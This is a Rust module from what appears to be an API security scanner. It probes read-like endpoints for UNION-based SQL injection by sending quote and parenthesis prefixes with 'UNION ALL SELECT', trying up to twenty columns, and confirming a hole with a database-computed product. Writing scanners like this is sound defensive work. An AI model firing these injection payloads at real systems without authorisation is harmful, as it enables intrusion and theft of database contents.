//! Rows of the attacker's own beside those of the API.
//!
//! `UNION SELECT` adds rows of any table, if it has as many columns. How many is found by trying. What proves it is a
//! product of two numbers that only the database could have made. Only what reads is asked, and only where a quote makes a
//! difference at all.

use super::mend::{MEND_AT_GATE, MEND_IN_CODE};
use crate::answer::Likeness;
use crate::attack::{Attack, Hole, Tried};
use crate::attacks::aim::{self, Aim, Takes, is_read_like};
use crate::attacks::sums::{self, Outcome, Sum};
use crate::door::{GuideDoor, ShutBy};
use crate::prober::{Prober, Stop};
use report::Level;

pub(super) const ATTACK: Attack = Attack {
    name: "sql-union",
    door: GuideDoor::SqlInjection,
    shut_by: ShutBy::Code,
    thought: "Can I add rows of another table to the answer?",
    level: Level::Critical,
    references: &["CWE-89", "API8:2023"],
    mend_in_code: MEND_IN_CODE,
    mend_at_gate: MEND_AT_GATE,
    run: |p, tried| Box::pin(run(p, tried)),
};

/// The most columns that are tried.
const MAX_COLUMNS: usize = 20;

/// How the statement goes on from a text: before the columns.
const TEXTS: [&str; 2] = ["zq' UNION ALL SELECT ", "zq') UNION ALL SELECT "];
/// The same from a number.
const NUMBERS: [&str; 2] = [" UNION ALL SELECT ", ") UNION ALL SELECT "];

/// The product as digits in a text, which passes for a number, too: SQLite and PostgreSQL; MySQL; SQL Server.
const CELLS: [&str; 3] = ["(SUM)||''", "CONCAT(SUM,'')", "CAST(SUM AS VARCHAR(20))"];

async fn run<'a>(p: &'a Prober<'a>, tried: &mut Tried) -> Result<(), Stop> {
    aim::each(
        p,
        tried,
        |control, _| is_read_like(p.surface.endpoint(control.endpoint)),
        |p, aim, tried| Box::pin(try_slot(p, aim, tried)),
    )
    .await
}

async fn try_slot(p: &Prober<'_>, aim: &Aim, tried: &mut Tried) -> Result<(), Stop> {
    let mut befores = Vec::new();
    if aim.takes != Takes::Number && differs(p, aim, ["zq'", "zq''"]).await? {
        befores.extend(TEXTS);
    }
    if aim.takes != Takes::Text && differs(p, aim, [" AND", " AND 1=1"]).await? {
        befores.extend(NUMBERS);
    }
    if befores.is_empty() {
        tried.shut(&aim.baseline.reply.seen);
    }
    for before in befores {
        for cell in CELLS {
            for columns in 1..=MAX_COLUMNS {
                let draft = |sum: Sum| {
                    let cell = cell.replace("SUM", &sum.written());
                    aim.behind(&format!("{before}{} -- -", vec![cell; columns].join(",")))
                };
                match sums::ask(p, aim, &draft).await? {
                    Outcome::Calculated(reply) => {
                        let message =
                            format!("a row of the attacker's own is in the answer; {columns} columns");
                        tried.open(Hole::shown(
                            &aim.operation,
                            &aim.slot,
                            message,
                            &aim.baseline.reply,
                            &reply,
                        ));
                        return Ok(());
                    }
                    Outcome::Plain(reply) if columns == MAX_COLUMNS => tried.shut(&reply.seen),
                    Outcome::Plain(_) => {}
                }
            }
        }
    }
    Ok(())
}

/// Whether what breaks a statement is answered otherwise than what does not.
async fn differs(p: &Prober<'_>, aim: &Aim, [broken, whole]: [&str; 2]) -> Result<bool, Stop> {
    let mut likenesses = Vec::with_capacity(2);
    for text in [broken, whole] {
        let reply = aim::send(p, &aim.behind(text), aim.baseline.who).await?;
        let sent = reply.draft.text(&aim.slot).unwrap_or_default();
        likenesses.push(Likeness::of(&reply, &aim.baseline.mask, &[&sent]));
    }
    Ok(likenesses.first() != likenesses.last())
}
